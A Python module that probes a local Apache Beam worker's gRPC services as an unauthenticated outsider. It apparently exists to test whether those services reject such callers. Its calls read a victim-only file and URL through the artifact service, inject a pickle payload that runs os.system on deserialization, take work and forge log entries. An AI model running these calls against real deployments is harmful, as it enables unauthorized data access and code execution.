"""Calls of Beam's services by a foreign process: each returns the status that it got."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import grpc
from apache_beam.portability import common_urns
from apache_beam.portability.api import (
    beam_artifact_api_pb2,
    beam_artifact_api_pb2_grpc,
    beam_fn_api_pb2,
    beam_fn_api_pb2_grpc,
    beam_provision_api_pb2,
    beam_provision_api_pb2_grpc,
    beam_runner_api_pb2,
)

_WORKER = [("worker_id", "worker_0")]
_SECONDS = 10


def get_artifact(channel: grpc.Channel, urn: str, payload: bytes) -> list[bytes]:
    artifact = beam_runner_api_pb2.ArtifactInformation(type_urn=urn, type_payload=payload)
    request = beam_artifact_api_pb2.GetArtifactRequest(artifact=artifact)
    stub = beam_artifact_api_pb2_grpc.ArtifactRetrievalServiceStub(channel)
    return [response.data for response in stub.GetArtifact(request, timeout=_SECONDS)]


def get_file(channel: grpc.Channel, path: str) -> object:
    payload = beam_runner_api_pb2.ArtifactFilePayload(path=path).SerializeToString()
    return get_artifact(channel, common_urns.artifact_types.FILE.urn, payload)


def get_url(channel: grpc.Channel, url: str) -> object:
    payload = beam_runner_api_pb2.ArtifactUrlPayload(url=url).SerializeToString()
    return get_artifact(channel, common_urns.artifact_types.URL.urn, payload)


def append_state(channel: grpc.Channel, data: bytes) -> object:
    key = beam_fn_api_pb2.StateKey(runner=beam_fn_api_pb2.StateKey.Runner(key=b"x"))
    append = beam_fn_api_pb2.StateAppendRequest(data=data)
    return _state(channel, beam_fn_api_pb2.StateRequest(id="1", state_key=key, append=append))


def get_state(channel: grpc.Channel) -> object:
    key = beam_fn_api_pb2.StateKey(runner=beam_fn_api_pb2.StateKey.Runner(key=b"x"))
    return _state(channel, beam_fn_api_pb2.StateRequest(id="1", state_key=key, get=beam_fn_api_pb2.StateGetRequest()))


def _state(channel: grpc.Channel, request: beam_fn_api_pb2.StateRequest) -> object:
    stub = beam_fn_api_pb2_grpc.BeamFnStateStub(channel)
    return next(iter(stub.State(iter([request]), metadata=_WORKER, timeout=_SECONDS)))


def send_data(channel: grpc.Channel) -> object:
    data = beam_fn_api_pb2.Elements.Data(instruction_id="bundle_1", transform_id="n", data=b"x", is_last=True)
    elements = beam_fn_api_pb2.Elements(data=[data])
    stub = beam_fn_api_pb2_grpc.BeamFnDataStub(channel)
    return list(stub.Data(iter([elements]), metadata=_WORKER, timeout=_SECONDS))


def take_work(channel: grpc.Channel) -> object:
    stub = beam_fn_api_pb2_grpc.BeamFnControlStub(channel)
    response = beam_fn_api_pb2.InstructionResponse(instruction_id="control_1")
    return next(iter(stub.Control(iter([response]), metadata=_WORKER, timeout=_SECONDS)))


def read_descriptor(channel: grpc.Channel) -> object:
    stub = beam_fn_api_pb2_grpc.BeamFnControlStub(channel)
    request = beam_fn_api_pb2.GetProcessBundleDescriptorRequest(process_bundle_descriptor_id="1")
    return stub.GetProcessBundleDescriptor(request, metadata=_WORKER, timeout=_SECONDS)


def write_log(channel: grpc.Channel) -> object:
    entry = beam_fn_api_pb2.LogEntry(severity=beam_fn_api_pb2.LogEntry.Severity.CRITICAL, message="a stranger's")
    stub = beam_fn_api_pb2_grpc.BeamFnLoggingStub(channel)
    entries = beam_fn_api_pb2.LogEntry.List(log_entries=[entry])
    return list(stub.Logging(iter([entries]), metadata=_WORKER, timeout=_SECONDS))


def ask_provision(channel: grpc.Channel) -> object:
    stub = beam_provision_api_pb2_grpc.ProvisionServiceStub(channel)
    request = beam_provision_api_pb2.GetProvisionInfoRequest()
    return stub.GetProvisionInfo(request, metadata=_WORKER, timeout=_SECONDS)


def calls(secret: str, url: str) -> dict[str, Callable[[grpc.Channel], object]]:
    """Returns every attack by name; `secret` is a file and `url` a page that only the victim may read."""
    return {
        "artifact of a file": lambda channel: get_file(channel, secret),
        "artifact of a URL": lambda channel: get_url(channel, url),
        "state append": lambda channel: append_state(channel, b"cos\nsystem\n(S'true'\ntR."),
        "state get": get_state,
        "data": send_data,
        "control": take_work,
        "control descriptor": read_descriptor,
        "logging": write_log,
        "provision": ask_provision,
    }


def attack(port: int, secret: str, url: str) -> Iterator[tuple[str, str]]:
    """Yields the name of each call and the status that it got on a port: OK, UNAUTHENTICATED, …."""
    with grpc.insecure_channel(f"127.0.0.1:{port}", [("grpc.enable_http_proxy", 0)]) as channel:
        for name, call in calls(secret, url).items():
            try:
                call(channel)
                yield name, "OK"
            except grpc.RpcError as error:
                yield name, error.code().name
            except StopIteration:
                yield name, "OK"
